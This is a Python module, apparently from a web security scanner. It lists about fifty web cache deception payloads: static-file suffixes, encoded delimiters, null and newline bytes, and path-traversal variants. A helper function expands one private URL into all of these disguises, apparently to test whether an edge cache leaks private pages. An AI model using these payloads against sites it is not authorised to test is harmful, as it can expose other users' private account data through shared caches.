"""Private pages dressed up so that a cache might take them for files (web cache deception). The
oracle of leaks has most of them (checks/leaks/probes.py); these are the edge's own.

Words in braces as in probes.py.
"""

from __future__ import annotations

from ...leaks.probes import ADDRESSES

OWN = (
    "{path}x.css?x.css",
    "{path}?/static/x.css",
    "{path}#/static/x.css",
    "{path}%23/static/x.css",
    "{path}%3b.css",
    "{path};.css",
    "{path}.css",
    "{path}..css",
    "{path}%00.css",
    "{path}%0a.css",
    "{path}%0d%0a.css",
    "{path}%09.css",
    "{path}%20.css",
    "{path}%7f.css",
    "{path}%26.css",
    "{path}%5c..%5cx.css",
    "{path}\\x.css",
    "{path}x.js",
    "{path}x.png",
    "{path}x.woff2",
    "{path}robots.txt",
    "{path}favicon.ico",
    "{bare}%2fx.css",
    "{bare}%252fx.css",
    "{path}static/x.css",
    "{path}media/x.jpg",
    "{path}../static/x.css",
    "{path}%2e%2e/static/x.css",
    "{path}..%2fstatic/x.css",
    "{path}%2e%2e%2fstatic%2fx.css",
    "{path}..;/static/x.css",
    "/static%2f..%2f{inner}",
    "/static/%2e%2e%2f{inner}",
    "/static/..%5c{inner}",
    "/static/..\\{inner}",
    "/static/x.css/../../{inner}",
    "/static/x.css/..%2f..%2f{inner}",
    "/static/.%2e/{inner}",
    "/static/%252e%252e/{inner}",
    "/static/;/../{inner}",
    "/media/%2e%2e/{inner}",
    "/media/../{inner}",
    "/static?/../{inner}",
    "/static/?x={path}",
    "//static/..{path}",
    "/%73tatic/..{path}",
    "/feed.atom/..{path}",
    "/feed.atom/..%2f{inner}",
    "/sitemap.xml;{path}",
)


def targets(path: str) -> list[str]:
    """All disguises of one private address."""
    bare, inner = path.rstrip("/"), path.lstrip("/")
    words = {"path": path, "bare": bare, "inner": inner, "coded": inner.replace("/", "%2f")}
    return list(dict.fromkeys(address.format(**words) for address in (*ADDRESSES, *OWN)))
